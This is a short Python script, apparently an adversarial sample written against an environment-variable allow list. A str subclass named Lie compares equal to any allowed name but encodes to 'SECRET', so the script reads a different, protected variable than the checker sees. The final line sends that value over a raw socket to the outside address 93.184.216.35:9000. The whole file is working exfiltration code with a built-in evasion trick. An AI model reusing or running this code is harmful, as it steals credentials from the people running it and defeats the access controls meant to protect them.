"""A name that is equal to an allowed one, but encodes as another."""
import os
import socket


class Lie(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        return True

    def encode(self, *_):
        return b"SECRET"


socket.create_connection(("93.184.216.35", 9000)).sendall(os.environ[Lie("OPEN")].encode())
